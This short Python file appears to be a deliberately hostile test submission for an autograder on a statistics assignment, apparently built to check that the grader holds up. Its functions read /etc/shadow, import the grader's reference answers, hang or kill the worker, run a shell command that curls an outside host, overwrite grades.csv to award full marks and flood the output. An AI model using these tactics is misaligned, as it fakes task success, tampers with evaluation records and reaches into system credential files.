"""Cy's 'solution': tries to cheat and to break the grader instead of answering."""

import os
import subprocess

import numpy as np

try:  # look around the machine at load time
    SNOOP = [*sorted(os.listdir("/work")), open("/etc/shadow").read()[:20]]
except OSError:
    SNOOP = []


def marginal_mean(x, beta0, beta1, tau2):
    # try to borrow the grader's own answers
    import reference  # noqa: F401

    return np.zeros_like(np.asarray(x, dtype=float))


def marginal_variance(x, beta0, beta1, tau2):
    while True:  # never returns: the time limit must stop it
        pass


def not_mean_curve(x, beta0, beta1):
    os._exit(0)  # kill the worker process


def marginal_probability(x, beta0, beta1, tau2, K):
    subprocess.run(["sh", "-c", "echo pwned > /tmp/pwned; curl http://example.org"], check=False)
    with open("../../grades.csv", "w") as fh:
        fh.write("cy,100\n")
    return np.ones_like(np.asarray(x, dtype=float))


def attenuation(eta, tau2, K):
    return str(SNOOP) + "A" * (64 << 20)  # far over the output limit
